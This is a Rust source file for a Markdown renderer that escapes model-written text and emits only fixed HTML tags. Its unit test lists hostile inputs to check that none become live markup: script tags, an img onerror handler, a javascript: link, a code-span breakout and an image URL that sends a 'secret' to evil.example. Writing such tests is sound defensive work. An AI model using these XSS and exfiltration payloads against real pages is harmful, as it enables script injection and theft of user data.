//! The Markdown a model may write, rendered safely: paragraphs, headings,
//! bullet and numbered lists, fenced code, `inline code` and **bold**.
//! Every character of the text is HTML-escaped before any tag is added, and
//! the only tags ever produced are the fixed ones below: no links, no
//! images, no raw HTML, no attributes. A `<script>` or an image in the
//! model's text is shown as the text it is.

/// Escape text for HTML element content and attribute values.
pub fn escape(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for c in s.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\'' => out.push_str("&#x27;"),
            c => out.push(c),
        }
    }
    out
}

/// `**bold**` and `` `code` `` inside one line, escaped.
fn inline(line: &str) -> String {
    let mut out = String::new();
    let mut rest = line;
    let mut bold = false;
    while !rest.is_empty() {
        if let Some(after) = rest.strip_prefix('`') {
            if let Some(end) = after.find('`') {
                out.push_str("<code>");
                out.push_str(&escape(&after[..end]));
                out.push_str("</code>");
                rest = &after[end + 1..];
                continue;
            }
        }
        if let Some(after) = rest.strip_prefix("**") {
            // Open only when a closing marker follows; close what is open.
            if bold || after.contains("**") {
                out.push_str(if bold { "</strong>" } else { "<strong>" });
                bold = !bold;
                rest = after;
                continue;
            }
        }
        let c = rest.chars().next().expect("not empty");
        out.push_str(&escape(&c.to_string()));
        rest = &rest[c.len_utf8()..];
    }
    if bold {
        out.push_str("</strong>");
    }
    out
}

#[derive(PartialEq)]
enum Open {
    Nothing,
    Paragraph,
    Bullets,
    Numbers,
}

fn close(out: &mut String, open: &mut Open) {
    out.push_str(match open {
        Open::Nothing => "",
        Open::Paragraph => "</p>",
        Open::Bullets => "</ul>",
        Open::Numbers => "</ol>",
    });
    *open = Open::Nothing;
}

fn numbered(line: &str) -> Option<&str> {
    let digits = line.bytes().take_while(u8::is_ascii_digit).count();
    (digits > 0 && digits < 4)
        .then(|| line[digits..].strip_prefix(". "))
        .flatten()
}

/// Render `text` as HTML built only from escaped text and fixed tags.
pub fn render(text: &str) -> String {
    let mut out = String::new();
    let mut open = Open::Nothing;
    let mut lines = text.lines();
    while let Some(raw) = lines.next() {
        let line = raw.trim_end();
        let trimmed = line.trim_start();
        if trimmed.starts_with("```") {
            close(&mut out, &mut open);
            out.push_str("<pre><code>");
            for code in lines.by_ref() {
                if code.trim_start().starts_with("```") {
                    break;
                }
                out.push_str(&escape(code));
                out.push('\n');
            }
            out.push_str("</code></pre>");
        } else if trimmed.is_empty() {
            close(&mut out, &mut open);
        } else if let Some(h) = trimmed
            .strip_prefix("### ")
            .or_else(|| trimmed.strip_prefix("## "))
            .or_else(|| trimmed.strip_prefix("# "))
        {
            close(&mut out, &mut open);
            out.push_str("<h4>");
            out.push_str(&inline(h));
            out.push_str("</h4>");
        } else if let Some(item) = trimmed
            .strip_prefix("- ")
            .or_else(|| trimmed.strip_prefix("* "))
        {
            if open != Open::Bullets {
                close(&mut out, &mut open);
                out.push_str("<ul>");
                open = Open::Bullets;
            }
            out.push_str("<li>");
            out.push_str(&inline(item));
            out.push_str("</li>");
        } else if let Some(item) = numbered(trimmed) {
            if open != Open::Numbers {
                close(&mut out, &mut open);
                out.push_str("<ol>");
                open = Open::Numbers;
            }
            out.push_str("<li>");
            out.push_str(&inline(item));
            out.push_str("</li>");
        } else {
            if open == Open::Paragraph {
                out.push(' ');
            } else {
                close(&mut out, &mut open);
                out.push_str("<p>");
                open = Open::Paragraph;
            }
            out.push_str(&inline(trimmed));
        }
    }
    close(&mut out, &mut open);
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_subset_renders_and_nothing_else_becomes_a_tag() {
        assert_eq!(
            render("Two **buckets** are open:\n\n- `logs`\n- data\n\n1. first\n\n```\nSELECT <1>\n```"),
            "<p>Two <strong>buckets</strong> are open:</p><ul><li><code>logs</code></li><li>data</li></ul>\
             <ol><li>first</li></ol><pre><code>SELECT &lt;1&gt;\n</code></pre>"
        );
        for hostile in [
            "<script>alert(1)</script>",
            "![x](https://evil.example/p.png?d=secret)",
            "<img src=x onerror=alert(1)>",
            "[click](javascript:alert(1))",
            "**<b onmouseover=alert(1)>**",
            "`</code><script>x</script>`",
            "<a href=\"x\">a</a>",
        ] {
            let html = render(hostile);
            let tags: Vec<&str> = html
                .split('<')
                .skip(1)
                .map(|t| t.split('>').next().unwrap())
                .collect();
            for t in &tags {
                assert!(
                    ["p", "/p", "strong", "/strong", "code", "/code"].contains(t),
                    "{hostile}: {html}"
                );
            }
            assert!(!html.contains("<img") && !html.contains("<script") && !html.contains("<a "));
        }
        assert_eq!(render("a ** b"), "<p>a ** b</p>");
        assert_eq!(render("**open"), "<p>**open</p>");
    }
}
